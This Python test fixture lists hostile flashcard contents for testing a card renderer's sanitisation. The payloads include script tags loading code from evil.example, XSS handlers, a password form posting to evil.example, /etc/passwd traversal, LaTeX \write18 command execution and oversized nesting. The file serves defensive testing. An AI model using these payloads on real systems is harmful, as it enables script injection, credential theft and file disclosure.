"""Cards that can be taken and might do harm when they are shown."""

LONG = "word " * (2**20 // 5)
_DEEP = 3_300

# What each is, its front, its back; HTML.
CARDS: tuple[tuple[str, str, str], ...] = (
    ("script", "f1 script?", "<script>alert(1)</script>b1<script src=https://evil.example/x.js></script>"),
    ("frame", "f2 frame?", '<iframe src="https://evil.example/"></iframe>b2<object data="x"></object><embed src=x>'),
    ("remote", "f3 remote?", '<img src="https://evil.example/p.png" alt="seen">b3<img src="//evil.example/q.png">'),
    (
        "handlers",
        'f4 <b onclick="alert(1)">bold</b>?',
        '<a href="#" onmouseover="alert(1)">b4</a><img src=x onerror=y>',
    ),
    ("a link of script", "f5 link?", '<a href="javascript:alert(1)">b5</a> <a href="data:text/html,x">data</a>'),
    ("a link of Telegram", "f6 tg?", '<a href="tg://user?id=1">b6</a> <a href="file:///etc/passwd">file</a>'),
    ("nested", "f7 nested?", "<b>" * _DEEP + "b7" + "</b>" * 2000),
    ("nested blocks", "f8 blocks?", "<div>" * 1600 + "b8" + "</div>" * 1600),
    ("nested lists", "f9 lists?", "<ul><li>" * 900 + "b9" + "</li></ul>" * 900),
    ("nested tables", "f10 tables?", "<table><tr><td>" * 600 + "b10" + "</td></tr></table>" * 600),
    ("nested quotes", "f11 quotes?", "<blockquote>" * 700 + "b11" + "</blockquote>" * 700),
    ("a wide table", "f12 wide?", "<table><tr>" + "<td>b12</td>" * 1000 + "</tr></table>"),
    ("turned", "f13 \u202eturned?", "b13 \u202e\u2066\u2067txt.exe"),
    ("unseen", "f14 unseen?", "b14 \u200b\u200d\ufeff" + "\u0301" * 9_000),
    ("one sign in 9000", "f15 signs?", "b15 " + "👩‍👩‍👧‍👦" * 900),
    ("long LaTeX", "f16 LaTeX?", r"b16 \(" + r"\frac{1}{" * 1000 + "x" + "}" * 1000 + r"\)"),
    ("looping LaTeX", "f17 loop?", r"b17 \(\def\x{\x\x}\x\) [latex]\loop\iftrue\repeat[/latex]"),
    ("LaTeX of files", "f18 files?", r"b18 \(\input{/etc/passwd}\) [$]\write18{id}[/$]"),
    ("half a formula", r"f19 \(half?", r"b19 \[ x [$] y"),
    ("many formulas", "f20 formulas?", "b20 " + "".join(rf"\(\sum_{{{n}}}^n\)" for n in range(900))),
    ("SVG", "f21 SVG?", '<svg onload="x()"><image href="https://evil.example/s.png"/><text>x</text></svg>b21'),
    ("a picture of SVG", "f22 picture?", 'b22 <img src="refers.svg">'),
    ("a large picture", "f23 large?", 'b23 <img src="large.png">'),
    ("a picture cut off", "f24 cut?", 'b24 <img src="cut.png">'),
    ("a picture outside", "f25 outside?", 'b25 <img src="../../../etc/passwd"><img src="/etc/passwd">'),
    ("data of a picture", "f26 data?", 'b26 <img src="data:image/png;base64,' + "A" * 9_000 + '">'),
    ("no sound", "f27 sound?", "b27 [sound:none.mp3][sound:text.mp3]"),
    ("a sound outside", "f28 sound?", "b28 [sound:../../../etc/passwd]"),
    ("many sounds", "f29 sounds?", "b29 " + "".join(f"[sound:{n}.mp3]" for n in range(900))),
    ("markup of others", "f30 *bold* _i_ `c`?", "b30 [x](https://evil.example) ||spoiler|| @everyone /quiz #tag"),
    ("links of text", "f31 links?", "b31 evil.example https://evil.example/?q=1 t.me/x someone@evil.example"),
    ("style", "f32 style?", "<style>* { background: url(https://evil.example) }</style>b32"),
    ("a form", "f33 form?", '<form action="https://evil.example"><input type=password><button>go</button></form>b33'),
    ("comments", "f34 comments?", "b34 <!-- <b>x --> <!--[if IE]>x<![endif]--> <![CDATA[x]]> <?php x ?>"),
    ("half tags", "f35 half?", "b35 <b <i <a href= <img src="),
    ("a long word", "f36 word?", "b36" + "x" * 9_000),
    ("many lines", "f37 lines?", "b37" + "<br>" * 4_900),
    ("colours", "f38 colours?", '<font color="' + "x" * 9_000 + '">b38</font>'),
    ("marks of gaps", "f39 {{c1::gap}} {{c99999999999::x}}?", "b39 {{c1::{{c1::{{c1::x}}}}}}"),
    ("a hint", "f40 hint?", '<details><summary>b40</summary><a href="javascript:x">y</a></details>'),
)

MEDIA: dict[str, bytes] = {
    "refers.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "text.mp3": b"no sound at all",
}
